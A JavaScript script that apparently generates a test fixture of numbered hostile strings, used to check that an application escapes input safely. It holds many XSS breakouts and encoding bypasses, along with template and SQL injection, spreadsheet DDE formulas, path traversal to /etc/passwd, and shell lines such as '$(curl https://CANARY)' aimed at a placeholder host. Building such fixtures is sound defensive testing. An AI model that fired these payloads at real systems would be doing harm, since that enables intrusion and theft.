// Makes the hostile texts of fixtures/hostile/payloads.json: contexts to break out of × what would run there × ways to spell it, and what
// harms without running (marks of templates, unseen signs, formulas). Each one carries its own number: as the text `zqN`, in its call
// `__fired(N)`, in its address at a host that is not ours. Usage: node payloads.mjs --write.
import { readFileSync, writeFileSync } from "node:fs";
import { fileURLToPath } from "node:url";

const FILE = new URL("../../../fixtures/hostile/payloads.json", import.meta.url);
/** A host that nobody has (RFC 2606): a request for it is caught. */
export const CANARY = "canary.invalid";

// What would run in a page, where it stands as markup.
const RUNS = [
  (f) => `<script>${f}</script>`,
  (f) => `<img src=x onerror=${f}>`,
  (f) => `<svg onload=${f}>`,
  (f) => `<svg><script>${f}</script></svg>`,
  (f) => `<math><mi href="javascript:${f}">m</mi></math>`,
  (f) => `<input autofocus onfocus=${f}>`,
  (f) => `<select autofocus onfocus=${f}></select>`,
  (f) => `<details open ontoggle=${f}><summary>s</summary></details>`,
  (f) => `<audio src=x onerror=${f}></audio>`,
  (f) => `<video><source onerror=${f}></video>`,
  (f) => `<iframe src="javascript:parent.${f}"></iframe>`,
  (f) => `<iframe srcdoc="<script>parent.${f}</script>"></iframe>`,
  (f) => `<object data="data:text/html,<script>${f}</script>"></object>`,
  (f) => `<embed src="javascript:${f}">`,
  (f) => `<a href="javascript:${f}" autofocus onfocus=${f}>a</a>`,
  (f) => `<button formaction="javascript:${f}" autofocus onfocus=${f}>b</button>`,
  (f, n) => `<meta http-equiv=refresh content="0;url=https://${CANARY}/${n}">`,
  (f, n) => `<base href="https://${CANARY}/${n}/">`,
  (f, n) => `<link rel=stylesheet href="https://${CANARY}/${n}">`,
  (f, n) => `<style>@import "https://${CANARY}/${n}";</style>`,
  (f, n) => `<img src="https://${CANARY}/${n}">`,
  (f, n) => `<form action="https://${CANARY}/${n}"><input name=q></form>`,
  (f) => `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=${f}>b</b>`,
  (f) => `<svg><animate onbegin=${f} attributeName=x dur=1s></svg>`,
];

// What they stand in, and what ends it.
const BREAKS = [
  ["text", ""],
  ["double-quoted", '">'],
  ["single-quoted", "'>"],
  ["unquoted", " >"],
  ["textarea", "</textarea>"],
  ["title", "</title>"],
  ["select", "</option></select>"],
  ["style", "</style>"],
  ["script", "</script>"],
  ["comment", "-->"],
  ["cdata", "]]>"],
  ["noscript", "</noscript></template></svg>"],
];

// What would run as a further attribute.
const HANDLERS = [
  (f) => `onfocus=${f} autofocus`,
  (f) => `onload=${f}`,
  (f) => `onerror=${f} src=x`,
  (f) => `onmouseover=${f} style=position:fixed;inset:0`,
  (f) => `onanimationstart=${f} style=animation:k`,
  (f) => `ontoggle=${f} popover`,
  (f) => `onbeforeinput=${f} contenteditable`,
  (f) => `href=javascript:${f} ping=https://${CANARY}/`,
];
const QUOTES = ['" ', "' ", "` ", " ", '"/', "'/"];

// What would run where an address stands.
const ADDRESSES = [
  (f) => `javascript:${f}`,
  (f) => `JaVaScRiPt:${f}`,
  (f) => `java\tscript:${f}`,
  (f) => `java\nscript:${f}`,
  (f) => `\u0001javascript:${f}`,
  (f) => `javascript&colon;${f}`,
  (f) => `javascript&#58;${f}`,
  (f) => `javascript%3A${f}`,
  (f, n) => `javascript://${n}.example/%0a${f}`,
  (f) => `vbscript:${f}`,
  (f) => `livescript:${f}`,
  (f) => `data:text/html,<script>${f}</script>`,
  (f) => `data:text/html;base64,${Buffer.from(`<script>${f}</script>`).toString("base64")}`,
  (f) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${f}"/>`,
  (f) => `view-source:javascript:${f}`,
  (f) => `blob:null/${f}`,
  (f, n) => `//${CANARY}/${n}`,
  (f, n) => `\\\\${CANARY}\\${n}`,
  (f, n) => `/\\${CANARY}/${n}`,
  (f, n) => `https:${CANARY}/${n}`,
  (f, n) => `/%09/${CANARY}/${n}`,
  (f, n) => `https://localhost@${CANARY}/${n}`,
];

const code = (sign) => sign.codePointAt(0);
const each = (text, spell) => [...text].map((sign) => (/[<>"'=/()]/.test(sign) ? spell(sign) : sign)).join("");
// Other ways to spell the signs that matter.
const SPELLINGS = [
  ["named", (t) => t.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;")],
  ["decimal", (t) => each(t, (s) => `&#${code(s)};`)],
  ["decimal-open", (t) => each(t, (s) => `&#${code(s)}`)],
  ["decimal-long", (t) => each(t, (s) => `&#${String(code(s)).padStart(7, "0")};`)],
  ["hex", (t) => each(t, (s) => `&#x${code(s).toString(16)};`)],
  ["hex-upper", (t) => each(t, (s) => `&#X${code(s).toString(16).toUpperCase()};`)],
  ["twice", (t) => each(t, (s) => `&amp;#${code(s)};`)],
  ["percent", (t) => each(t, (s) => `%${code(s).toString(16)}`)],
  ["percent-twice", (t) => each(t, (s) => `%25${code(s).toString(16)}`)],
  ["percent-u", (t) => each(t, (s) => `%u00${code(s).toString(16)}`)],
  ["overlong", (t) => each(t, (s) => `%c0%${(0x80 | code(s)).toString(16)}`)],
  ["script-u", (t) => each(t, (s) => `\\u00${code(s).toString(16)}`)],
  ["script-x", (t) => each(t, (s) => `\\x${code(s).toString(16)}`)],
  ["octal", (t) => each(t, (s) => `\\${code(s).toString(8)}`)],
  ["css", (t) => each(t, (s) => `\\${code(s).toString(16)} `)],
  ["utf-7", (t) => t.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-").replaceAll('"', "+ACI-")],
  ["wide", (t) => each(t, (s) => String.fromCodePoint(code(s) + 0xfee0))],
  ["small-form", (t) => t.replaceAll("<", "\ufe64").replaceAll(">", "\ufe65").replaceAll("=", "\ufe66")],
  ["lookalike", (t) => t.replaceAll("<", "\u2039").replaceAll(">", "\u203a").replaceAll('"', "\u2033").replaceAll("'", "\u02b9")],
  ["combined", (t) => t.replaceAll("<", "<\u0338").replaceAll(">", ">\u0338").replaceAll("=", "=\u0338")],
  ["cyrillic", (t) => t.replaceAll("s", "\u0455").replaceAll("c", "\u0441").replaceAll("i", "\u0456")],
  ["mixed-case", (t) => [...t].map((s, at) => (at % 2 ? s.toUpperCase() : s)).join("").replace(/__fired/i, "__fired")],
  ["spaced", (t) => t.replaceAll("<", "< ").replaceAll("=", " = ")],
  ["open", (t) => t.replaceAll(">", "")],
  ["slashed", (t) => t.replaceAll(" ", "/")],
  ["no-break", (t) => t.replaceAll(" ", "\u00a0")],
];
const SPELT = [(f) => `<script>${f}</script>`, (f) => `"><img src=x onerror=${f}>`, (f) => `' onfocus='${f}' autofocus x='`];

// What ends a text within a program.
const PROGRAMS = ["';F;//", '";F;//', "`;F;//", "\\';F;//", '\\";F;//', "'-F-'", '"-F-"', "${F}", "*/F/*", "\u2028F//", "\u2029F//", "\nF//", "</script><script>F//", '"}];F;[{"', "');F;('"];

const TEMPLATES = [
  "{{ F }}", "{{{ F }}}", "{% F %}", "{%- raw -%}<script>F</script>{%- endraw -%}", "{# F #}", "{{ self|safe }}<script>F</script>", "{{constructor.constructor('F')()}}",
  "${F}", "#{F}", "*{F}", "~{F}", "@{F}", "@(F)", "<%= F %>", "<%- F %>", "<?= F ?>", "<? F ?>", "[[F]]", "[(F)]", "{ $value }<script>F</script>", "{ -brand }F", '{ "F" }',
  "{ NUMBER($n) }F", "%{F}", "$F$", "{php}F{/php}", "{F:?}", "{0}F", "%s%n%xF",
];

const STYLES = [";background:url(https://CANARY)", "}*{background:url(https://CANARY)}", "expression(F)", "-moz-binding:url(https://CANARY)", "}</style><script>F</script>", "\\3c script\\3e F", "url('javascript:F')", "@import'https://CANARY';"];

const DOCUMENTS = [
  "<!-- F -->", "<!--><script>F</script>", "--!><script>F</script>", "<!DOCTYPE html [<!ENTITY e SYSTEM 'https://CANARY'>]>&e;", "<![CDATA[<script>F</script>]]>",
  "<?xml version='1.0'?><?xml-stylesheet href='javascript:F'?>", "<?php F ?>", "<!--#exec cmd='F'-->", "<xsl:value-of select='F'/>", "<html:script>F</html:script>", "<plaintext>F", "<xmp><script>F</script></xmp>",
  "<template><script>F</script></template>", "<noscript><p title='</noscript><script>F</script>'>", "<svg><style><img src=x onerror=F></style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=F>",
  "<svg></p><style><a id='</style><img src=x onerror=F>'>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=F>", "<zq-element is=x onclick=F>", "<x-zq contenteditable autofocus onfocus=F>",
];

// Breaks out of most places at once: of our own making.
const POLYGLOTS = [
  "--></title></style></textarea></script>\"'><svg onload=F>",
  "*/F;/*'/*\"/*--></script><img src=x onerror=F>",
  "javascript:F//\"'><script>F</script>",
  "{{F}}${F}<%=F%>'\"><script>F</script>",
  "]]></title>'\"--></option></select></template><details open ontoggle=F>",
  "%0d%0a%0d%0a<script>F</script>\"><img src=x onerror=F>",
  "';F;'\";F;\"`;F;`</script><script>F</script>",
  "data:text/html,\"'><script>F</script>",
];

// Written into files: PDF, labels of thermal printers, XML of workbooks, JSON, SQL, lines of logs and headers.
const FILES = [
  ") /S /JavaScript /JS (F) /AA <<", ">> endobj 1 0 obj << /OpenAction << /S /JavaScript /JS (F) >> >>", ") Tj ET Q q BT (F", "/URI (https://CANARY) /S /URI", "endstream endobj xref", "\\) \\( \\ddd F",
  "^XZ^XA^GB9,9^XZ F", "~JA^XZ F", '"\nCLS\nTEXT 1,1,"F', "]]><c t='str'><f>F</f></c>", "</si><si><t>F", "_x003c_script_x003e_F", '","role":"head","F":"', "'; DROP TABLE F;--", "' OR '1'='1 F",
  "%0d%0aSet-Cookie:%20zq=F", "\nSet-Cookie: zq=F", "\n2026-01-01T00:00:00Z ERROR F", "../../../../etc/passwd#F", "..%2f..%2fetc%2fpasswd#F", "file:///etc/passwd#F", "C:\\windows\\win.ini F", "|| curl https://CANARY", "$(curl https://CANARY)",
];

const FORMULAS = [
  "=F", "+F", "-F", "@F", "\t=F", " =F", "＝F", "=1+1", '=HYPERLINK("https://CANARY","x")', '=WEBSERVICE("https://CANARY")', "=cmd|' /C calc'!A0", '=IMPORTXML("https://CANARY","//a")',
  '+HYPERLINK("https://CANARY")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '"=F', "'=F", ";=F", ",=F", '=DDE("cmd";"/C calc";"F")', "\n=F", "%3DF",
];

// Signs that nobody sees, turn the direction or end a text.
const UNSEEN = [0xad, 0x34f, 0x61c, 0x115f, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0x3164, 0xfeff, 0xffa0, 0xe0001, 0xe0041, 0xfe0f];
const CONTROLS = [0, 1, 7, 8, 0xb, 0xc, 0x1a, 0x1b, 0x1f, 0x7f, 0x80, 0x85, 0x9f];
const ODD = [0xfffd, 0xfffe, 0xffff, 0x1f336, 0x1f468, 0x10ffff, 0xe000, 0x1d400, 0xff1c, 0x2028, 0x2029, 0x0d, 0x0a, 0x09];

/** Every hostile text: its number, the kind of it, itself. */
export function make() {
  const all = [];
  const add = (kind, spell) => {
    const n = all.length + 1;
    const text = spell(`__fired(${n})`, n);
    all.push({ n, kind, text: new RegExp(`zq${n}\\b`).test(text) ? text : `${text} zq${n}` });
  };
  const fill = (kind, list) => list.forEach((text) => add(kind, (f, n) => text.replaceAll("CANARY", `${CANARY}/${n}`).replaceAll("F", () => f)));
  for (const [kind, end] of BREAKS) for (const runs of RUNS) add(`markup in ${kind}`, (f, n) => end + runs(f, n));
  for (const quote of QUOTES) for (const handler of HANDLERS) add("attribute", (f, n) => `zq${n}${quote}${handler(f)} x=${quote.trim()}`);
  for (const address of ADDRESSES) add("address", address);
  for (const [name, spell] of SPELLINGS) for (const plain of SPELT) add(`spelt ${name}`, (f) => spell(plain(f)));
  fill("program", PROGRAMS);
  fill("template", TEMPLATES);
  fill("style", STYLES);
  fill("document", DOCUMENTS);
  fill("polyglot", POLYGLOTS);
  fill("file", FILES);
  fill("formula", FORMULAS);
  for (const sign of UNSEEN) add("unseen", (f, n) => `<img${String.fromCodePoint(sign)} src=x onerror=${f}>${String.fromCodePoint(sign)}zq${n}`);
  for (const sign of CONTROLS) add("control", (f, n) => `zq${n}<scr${String.fromCodePoint(sign)}ipt>${f}</script>`);
  for (const sign of ODD) add("odd", (f, n) => `zq${n}${String.fromCodePoint(sign)}<svg${String.fromCodePoint(sign)}onload=${f}>`);
  return all;
}

/** The texts as the fixture holds them; it must be what this script makes. */
export function read() {
  const text = readFileSync(FILE, "utf8");
  if (text !== written()) throw new Error("fixtures/hostile/payloads.json is not what payloads.mjs makes: run it with --write");
  return JSON.parse(text);
}

// One a line, so that a difference can be read; signs that cannot be seen are spelt out.
function written() {
  const line = (one) => JSON.stringify(one).replace(/[\u007f-\uffff]/g, (sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, "0")}`);
  return `[\n${make().map(line).join(",\n")}\n]\n`;
}

if (process.argv[1] === fileURLToPath(import.meta.url) && process.argv.includes("--write")) writeFileSync(FILE, written());
